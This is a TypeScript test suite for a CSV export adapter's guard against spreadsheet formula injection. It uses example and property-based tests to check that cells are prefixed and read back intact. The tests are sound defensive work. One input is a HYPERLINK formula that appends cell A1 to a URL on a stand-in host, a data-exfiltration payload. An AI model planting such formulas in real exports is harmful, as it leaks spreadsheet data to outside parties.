import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readCsvRecords } from '../../src/adapters/csv/csv-records.js';
import { csvText } from '../../src/adapters/csv/csv-text.js';
import { neutraliseCell, neutraliseRow, readNeutralisedCell, readNeutralisedCells } from '../../src/adapters/csv/formula-cells.js';

describe('neutraliseCell', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&A1,"clic")', `'=HYPERLINK("http://x.example/?"&A1,"clic")`],
    ['+393331234567', "'+393331234567"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    // a value that already starts with ' before a trigger gets one more, so it reads back as itself
    ["'=1+1", "''=1+1"],
    ["''+39", "'''+39"],
  ])('%j is written as %j', (cell, written) => {
    expect(neutraliseCell(cell)).toBe(written);
    expect(readNeutralisedCell(written)).toBe(cell);
  });

  it.each(['', 'Anna', "'Ndrangheta", "D'Angelo", "'", "''", "' =1", ' =1+1', 'a=b', 'sub_0001', '2026-11-28T09:00:00.000Z', 'x@example.it', '\n=1'])(
    '%j is written as it is, and read as it is',
    (cell) => {
      expect(neutraliseCell(cell)).toBe(cell);
      expect(readNeutralisedCell(cell)).toBe(cell);
    },
  );

  it('reads a hand-typed prefixed cell as the value behind it', () => {
    expect(readNeutralisedCell("'+39 333 123 4567")).toBe('+39 333 123 4567');
    expect(readNeutralisedCells(["'=x", "'Nd", 'D\'Angelo', "'-"])).toEqual(['=x', "'Nd", "D'Angelo", '-']);
  });

  it('neutralises every cell of a row', () => {
    expect(neutraliseRow(['sub_1', '+39333', '=1', 'ok'])).toEqual(['sub_1', "'+39333", "'=1", 'ok']);
  });
});

describe('csvText', () => {
  it('quotes a value with a lone LF or CR, so a spreadsheet keeps it in one cell', () => {
    expect(csvText([['riga uno\nriga due', 'a\rb', 'x'], ['+39', '=1', "D'Angelo"]], ';')).toBe(`"riga uno\nriga due";"a\rb";x\r\n'+39;'=1;D'Angelo\r\n`);
  });
});

describe('neutralise → read back', () => {
  // strings rich in the characters that matter, and any string at all
  const risky = fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', 'a', '"', ',') });

  it('gives back any string', () => {
    fc.assert(
      fc.property(fc.oneof(risky, fc.string(), fc.string({ unit: 'binary' })), (cell) => {
        expect(readNeutralisedCell(neutraliseCell(cell))).toBe(cell);
      }),
      { numRuns: 2000 },
    );
  });

  it('never writes a cell a spreadsheet would run as a formula', () => {
    fc.assert(
      fc.property(fc.oneof(risky, fc.string()), (cell) => {
        expect(neutraliseCell(cell)).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: 2000 },
    );
  });

  it('survives the CSV itself: written as canale writes (csvText), parsed as the import parses, read back', async () => {
    const rows = fc.array(fc.array(risky, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 6 }).filter((all) => all.every((r) => r.some((c) => c !== '')));
    await fc.assert(
      fc.asyncProperty(rows, fc.constantFrom(',', ';'), async (cells, delimiter) => {
        const text = csvText(cells, delimiter);
        const back: string[][] = [];
        await readCsvRecords(Buffer.from(text), delimiter, 'x.csv', {
          record: (record) => back.push(readNeutralisedCells(record)),
          broken: (line, reason) => back.push([`broken ${line}: ${reason}`]),
        });
        expect(back).toEqual(cells);
      }),
      { numRuns: 300 },
    );
  });
});
